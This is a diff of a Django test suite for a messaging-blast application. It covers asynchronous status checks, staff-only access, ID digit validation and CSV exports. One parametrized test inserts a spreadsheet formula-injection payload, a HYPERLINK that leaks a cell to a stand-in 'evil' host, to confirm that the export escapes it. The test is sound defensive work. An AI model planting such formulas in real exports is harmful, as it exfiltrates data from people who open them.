@@ -16,6 +16,8 @@ from rest_framework.authtoken.models import Token
 
 from blasts.models import Blast, BlastRecipient, OptOut, StatusHistory
 from blasts.services import blast_queue, recipient_advance
+from blasts.tracking import NOTHING_TO_CHECK, poll_due
+from blasts.wsapme import get_client
 
 from .conftest import make_blast
 
@@ -578,7 +580,7 @@ def test_state_changes_are_post_only(admin_client):
 # --- check-status --------------------------------------------------------------------------------------
 
 
-def test_check_status_asks_the_gateway_about_unfinished_messages_and_counts_updates(
+def test_check_status_queues_unfinished_messages_at_once_and_the_poller_counts_updates(
     admin_client, mocked_gateway
 ):
     blast = blast_at({Status.PENDING: 2, Status.SERVER_ACK: 1, Status.READ_ACK: 1, Status.QUEUED: 1})
@@ -594,7 +596,11 @@ def test_check_status_asks_the_gateway_about_unfinished_messages_and_counts_upda
 
     response = admin_client.post(f"/api/blasts/{blast.pk}/check-status")
 
-    assert (response.status_code, response.json()) == (200, {"checked": 3, "updated": 2})
+    assert (response.status_code, response.json()["check"]["queued"]) == (202, 3)
+    assert not mocked_gateway.calls  # the request asks the gateway nothing: the poller does
+    poll_due(client=get_client())
+    check = blast.status_checks.get()
+    assert (check.checked, check.updated, check.errors) == (3, 2, 0) and check.finished_at
     assert sorted(mocked_gateway.calls) == sorted(
         [first.message_id, second.message_id, server_ack.message_id]
     )
@@ -611,8 +617,8 @@ def test_check_status_asks_the_gateway_about_unfinished_messages_and_counts_upda
 def test_check_status_of_a_blast_with_nothing_sent_checks_nothing(admin_client, mocked_gateway):
     blast = make_blast(2)
     response = admin_client.post(f"/api/blasts/{blast.pk}/check-status/")
-    assert (response.status_code, response.json()) == (200, {"checked": 0, "updated": 0})
-    assert not mocked_gateway.calls
+    assert (response.status_code, response.json()) == (200, {"check": None, "detail": NOTHING_TO_CHECK})
+    assert not mocked_gateway.calls and not blast.status_checks.exists()
 
 
 # --- metrics and stuck recipients --------------------------------------------------------------------------
@@ -815,7 +821,7 @@ def test_recipients_of_another_blast_are_not_listed(admin_client):
 
 def read_csv(response) -> list[list[str]]:
     assert response.status_code == 200
-    assert response["Content-Type"] == "text/csv"
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
     return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
 
 
@@ -849,6 +855,24 @@ def test_recipients_csv_respects_the_filters(admin_client, mixed_blast):
 
     header, *rows = read_csv(admin_client.get(f"/api/blasts/{mixed_blast.pk}/recipients?format=csv&q=abcd"))
     assert len(rows) == 1 and rows[0][3] == "ABCD-42"
+
+
+@pytest.mark.parametrize("export", ["page", "api"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_no_cell_from_outside_can_start_a_formula_in_either_export(admin_client, export, start):
+    blast = make_blast(1)
+    formula = f'{start}HYPERLINK("http://evil/?leak="&B2,"Click")'
+    BlastRecipient.objects.filter(blast=blast).update(
+        name=formula, reply_text=formula, failure_reason=formula, message_id=formula
+    )
+    url = {
+        "page": f"/blasts/{blast.pk}/recipients.csv",
+        "api": f"/api/blasts/{blast.pk}/recipients?format=csv",
+    }
+    header, row = read_csv(admin_client.get(url[export]))
+    cells = dict(zip(header, row, strict=True))
+    for field in ("name", "reply_text", "failure_reason", "message_id"):
+        assert cells[field] == "'" + formula, field  # a spreadsheet shows it, never runs it
 
 
 def test_recipients_csv_with_an_invalid_filter_is_400(admin_client, mixed_blast):
@@ -1038,3 +1062,128 @@ def test_healthz_is_503_when_the_database_fails(client):
     ):
         response = client.get("/healthz")
     assert (response.status_code, response.json()) == (503, {"status": "unavailable", "database": "down"})
+
+
+# --- check-status through the poller ----------------------------------------------------------------------
+
+
+def sent_blast(count=2) -> Blast:
+    """A blast whose recipients were sent (PENDING, with message ids) and are not due a poll yet."""
+    blast = blast_at({Status.PENDING: count})
+    for recipient in blast.recipients.all():
+        BlastRecipient.objects.filter(pk=recipient.pk).update(message_id=f"M{recipient.pk}")
+    return blast
+
+
+def test_check_status_answers_202_with_the_check_and_the_blast_shows_it(admin_client, mocked_gateway):
+    blast = sent_blast(2)
+    assert admin_client.get(f"/api/blasts/{blast.pk}").json()["status_check"] is None
+
+    response = admin_client.post(f"/api/blasts/{blast.pk}/check-status")
+
+    check = blast.status_checks.get()
+    assert response.status_code == 202
+    assert response.json() == {
+        "check": {
+            "id": check.pk,
+            "requested_at": response.json()["check"]["requested_at"],
+            "queued": 2,
+            "checked": 0,
+            "updated": 0,
+            "errors": 0,
+            "finished_at": None,
+        },
+        "detail": "Checking 2 messages' statuses…",
+    }
+    assert check.requested_by.username == "admin"
+    mocked_gateway.answers[f"M{blast.recipients.first().pk}"] = {"success": True, "status": "DELIVERY_ACK"}
+    poll_due(client=get_client())
+    shown = admin_client.get(f"/api/blasts/{blast.pk}").json()["status_check"]
+    assert (shown["id"], shown["checked"], shown["updated"]) == (check.pk, 2, 1)
+    assert shown["finished_at"] is not None
+
+
+def test_a_second_check_status_while_one_runs_returns_the_running_check(admin_client, mocked_gateway):
+    blast = sent_blast(2)
+    first = admin_client.post(f"/api/blasts/{blast.pk}/check-status").json()["check"]
+
+    again = admin_client.post(f"/api/blasts/{blast.pk}/check-status")
+
+    assert (again.status_code, again.json()["check"]["id"]) == (202, first["id"])
+    assert blast.status_checks.count() == 1 and not mocked_gateway.calls
+
+
+def test_check_status_is_for_staff_only_and_marks_nothing_otherwise(
+    client, django_user_model, mocked_gateway
+):
+    blast = sent_blast(1)
+    url = f"/api/blasts/{blast.pk}/check-status"
+    assert client.post(url).status_code == 401
+    client.force_login(django_user_model.objects.create_user("marketer"))
+    assert client.post(url).status_code == 403
+    assert (
+        not blast.status_checks.exists() and not blast.recipients.filter(status_check__isnull=False).exists()
+    )
+
+
+# --- ids are ASCII digits -------------------------------------------------------------------------------
+
+OTHER_DIGITS = {
+    "Arabic-Indic": str.maketrans(
+        "0123456789", "\u0660\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669"
+    ),
+    "fullwidth": str.maketrans("0123456789", "\uff10\uff11\uff12\uff13\uff14\uff15\uff16\uff17\uff18\uff19"),
+}
+
+
+@pytest.mark.parametrize("digits", OTHER_DIGITS.values(), ids=OTHER_DIGITS.keys())
+def test_an_api_url_with_an_id_in_other_digits_is_404(admin_client, digits):
+    blast = make_blast(1)
+    recipient = blast.recipients.get()
+    urls = [
+        "/api/blasts/{blast}/",
+        "/api/blasts/{blast}/metrics",
+        "/api/blasts/{blast}/stuck-recipients",
+        "/api/blasts/{blast}/recipients?format=csv",
+        "/api/recipients/{recipient}/",
+        "/api/recipients/{recipient}/history",
+    ]
+    for url in urls:
+        assert admin_client.get(url.format(blast=blast.pk, recipient=recipient.pk)).status_code == 200, url
+        other = url.format(
+            blast=str(blast.pk).translate(digits), recipient=str(recipient.pk).translate(digits)
+        )
+        assert admin_client.get(other).status_code == 404, other
+    assert admin_client.post(f"/api/blasts/{str(blast.pk).translate(digits)}/send").status_code == 404
+    blast.refresh_from_db()
+    assert blast.state == Blast.State.DRAFT
+
+
+@pytest.mark.parametrize("digits", OTHER_DIGITS.values(), ids=OTHER_DIGITS.keys())
+def test_a_page_url_with_an_id_in_other_digits_is_404(admin_client, digits):
+    # <int:pk> is [0-9]+: this confirms it, so a page never answers at a second address.
+    blast = make_blast(1)
+    recipient = blast.recipients.get()
+    b, r = str(blast.pk).translate(digits), str(recipient.pk).translate(digits)
+    for url in (
+        f"/blasts/{b}/",
+        f"/blasts/{b}/live/",
+        f"/blasts/{b}/recipients.csv",
+        f"/blasts/{b}/recipients/{r}/",
+    ):
+        assert admin_client.get(url).status_code == 404, url
+
+
+@pytest.mark.parametrize(
+    ("query", "field"),
+    [("page=\u0661", "page"), ("page_size=\u0661", "page_size"), ("page_size=\uff11&page=1", "page_size")],
+)
+def test_a_page_number_or_size_in_other_digits_is_400_naming_the_field(admin_client, query, field):
+    blast = make_blast(2)
+    for url in (
+        f"/api/blasts/?{query}",
+        f"/api/blasts/{blast.pk}/recipients?{query}",
+        f"/api/blasts/{blast.pk}/?{query}",
+    ):
+        response = admin_client.get(url)
+        assert (response.status_code, response.json()) == (400, {field: ["Use the digits 0-9."]}), url
